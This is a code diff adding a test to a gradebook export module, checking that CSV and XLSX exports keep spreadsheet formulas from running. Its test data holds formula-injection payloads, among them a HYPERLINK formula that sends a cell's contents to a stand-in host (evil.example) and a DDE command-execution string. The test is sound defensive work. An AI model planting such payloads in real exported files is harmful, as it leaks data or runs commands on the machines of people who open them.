@@ -1,5 +1,6 @@
 """Supervisor results on a small fixed data set, checked against values worked out by hand."""
 
+import csv
 import io
 import math
 from datetime import UTC, datetime, timedelta
@@ -21,6 +22,7 @@ from scoring.results import (
     counted_submissions,
     part_rollup,
     submission_scores,
+    to_csv_bytes,
     to_xlsx_bytes,
 )
 from views.dashboard_data import load_summary
@@ -181,3 +183,17 @@ def test_canvas_gradebook_layout_and_xlsx():
     assert sheet["A3"].value == "Ana" and sheet["F3"].value == 87.5
 
 
+
+
+def test_exports_never_hand_a_spreadsheet_a_formula():
+    people = [{"id": 1, "name": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "email": "+1@x.edu", "sis_id": "@SUM(1)"}, {"id": 2, "name": "-2+3", "email": None, "sis_id": None}]
+    frame = canvas_gradebook("=cmd|' /C calc'!A0", people, {"=1+1": {1: 50.0, 2: None}})
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(frame))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "an XLSX cell is a formula"
+    assert sheet["A3"].value == people[0]["name"] and sheet["F1"].value == "=1+1", "XLSX text is kept exactly, as text"
+    assert sheet["F3"].value == 50.0
+    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode())))
+    assert not [f for row in rows for f in row if f.startswith(("=", "+", "-", "@"))], rows
+    assert rows[2][:4] == ["'" + people[0]["name"], "", "'@SUM(1)", "'+1@x.edu"] and rows[2][5] == "50.0"
+    assert rows[3][0] == "'-2+3" and rows[0][5] == "'=1+1"
